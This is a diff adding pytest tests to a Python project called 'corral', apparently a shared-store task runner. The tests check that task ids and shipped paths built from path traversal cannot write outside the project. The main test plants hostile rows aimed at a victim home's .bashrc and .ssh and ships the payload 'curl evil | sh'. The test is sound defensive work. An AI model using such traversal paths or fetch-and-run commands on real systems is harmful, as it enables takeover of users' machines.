@@ -9,10 +9,14 @@ from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
+import pytest
+
 from corral.domain.actors import Actor
 from corral.engine.operations.prune import prune_diagnostics
 from corral.engine.read import diagnostics
+from corral.engine.recovery import leases
 from corral.engine.runtime import agent_marks, shipping
+from corral.errors import UnsafeName
 from corral.store import NewTask
 
 
@@ -66,3 +70,50 @@ def test_a_pruned_diagnostic_leaves_the_store_too(project: Any) -> None:
     assert report.removed and not Path(path).exists()
     with project.store.read() as tx:
         assert set(tx.shipped_sizes(task_id)) == {kept}
+
+
+def test_a_row_whose_task_id_is_a_path_leads_no_write_anywhere(
+    project: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # What a compromised teammate's host can write into a shared store: task ids that are paths,
+    # and shipped files under them, aimed at this host's home.
+    victim = tmp_path / "victim-home"
+    (victim / ".ssh").mkdir(parents=True)
+    (victim / ".bashrc").write_text("# mine\n")
+    hostile = {str(victim): "diagnostics/" + "../" * 40 + str(victim / ".bashrc")[1:]}
+    hostile["../" * 30 + str(victim / ".ssh")[1:]] = "tasks/" + "../" * 40 + str(victim / ".ssh/keys")[1:]
+    with project.store.write() as tx:
+        for n, (task_id, rel) in enumerate(hostile.items()):
+            tx.insert_task(NewTask(ref=f"pwn-{n}", goal="x"), Actor.HUMAN, task_id=task_id)
+            tx.queue_turn(task_id, "cmd-1", {})
+            tx.claim_turn(task_id, "cmd-1", "attacker:tok", "attacker")
+            tx.ship(task_id, rel, 0, b"curl evil | sh\n")
+    monkeypatch.setattr(type(project), "database_url", property(lambda self: "postgresql://shared"))
+    assert leases.bring_shipped(project, "me:tok") == 0  # every reconcile pass on a reviewer's host
+    for task_id in hostile:
+        with pytest.raises(UnsafeName):
+            shipping.materialize(project, task_id)
+        with pytest.raises(UnsafeName) as refused:
+            project.paths.task_dir(task_id)
+        assert refused.value.code == "unsafe-name" and "\n" not in refused.value.message
+    assert (victim / ".bashrc").read_text() == "# mine\n" and list((victim / ".ssh").iterdir()) == []
+    for name in ("/etc", "a/b", "..", "x\x00y", ""):
+        with pytest.raises(UnsafeName):
+            project.paths.journal_dir("0123456789abcdef", name)
+        with pytest.raises(UnsafeName):
+            project.paths.worktree(name)
+        with pytest.raises(UnsafeName):
+            project.paths.diagnostic(f"0123456789abcdef/{name}")
+    with pytest.raises(UnsafeName):
+        project.paths.worktree("Fix-Login")  # not a ref corral makes either
+    assert project.paths.worktree("fix-login") == project.paths.worktrees / "fix-login"
+
+
+def test_a_shipped_file_is_filled_no_further_than_a_shipper_may_ship(project: Any) -> None:
+    task_id = _task(project)
+    log = f"tasks/{task_id}/turns/1/output.log"
+    with project.store.write() as tx:
+        tx.ship(task_id, log, 0, b"a" * 10)
+        tx.ship(task_id, log, shipping.FILE_CAP - 4, b"b" * 10)  # a row past the cap: no shipper writes it
+    shipping.materialize(project, task_id)
+    assert (project.paths.root / log).stat().st_size == shipping.FILE_CAP
